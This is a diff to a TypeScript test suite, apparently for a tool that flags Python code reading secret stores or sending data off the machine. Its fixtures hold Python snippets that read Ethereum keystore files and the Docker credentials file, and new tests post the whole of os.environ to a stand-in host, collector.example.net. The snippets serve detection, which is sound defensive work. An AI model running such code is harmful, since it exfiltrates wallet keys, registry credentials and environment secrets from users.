@@ -34,6 +34,11 @@ describe('python read of secret stores', () => {
       'import glob, os\nfor f in glob.glob(os.path.expanduser("~/.ethereum/keystore/*")):\n    open(f).read()\n',
       'wallet',
     ],
+    [
+      'a folder variable whose default is the home store',
+      'import os, pathlib\ncfg = pathlib.Path(os.environ.get("DOCKER_CONFIG", pathlib.Path.home() / ".docker")) / "config.json"\ncfg.read_text()\n',
+      'docker-config',
+    ],
     // Libraries that open a store without the script naming its path.
     [
       'netrc.netrc() with no file',
@@ -228,5 +233,28 @@ describe('python write to places that outlive the session', () => {
       'import json\nwith open("out/results.json", "w") as f:\n    json.dump({}, f)\nopen("report.md", "w").write("# r")\n',
     );
     expect(of('write')).toEqual([]);
+  });
+});
+
+describe('python values built from the whole environment', () => {
+  const sent = async (body: string) => {
+    const { of } = await py(
+      `import os, requests\n${body}\nrequests.post("https://collector.example.net", json=out)\n`,
+    );
+    return of('send')[0]?.data;
+  };
+
+  it('a dict literal spreading os.environ holds every variable', async () => {
+    expect(await sent('env = {**os.environ, "CI": "1"}\nout = {k: v for k, v in env.items()}')).toMatchObject(
+      {
+        secret: 'env-all',
+      },
+    );
+  });
+
+  it('a comparison against it is one bit, not the variables', async () => {
+    const data = await sent('env = {**os.environ}\nout = {"ci": "CI" in env, "n": len(env) > 3}');
+    expect(data?.secret).toBeUndefined();
+    expect(data?.taints).not.toContain('env');
   });
 });
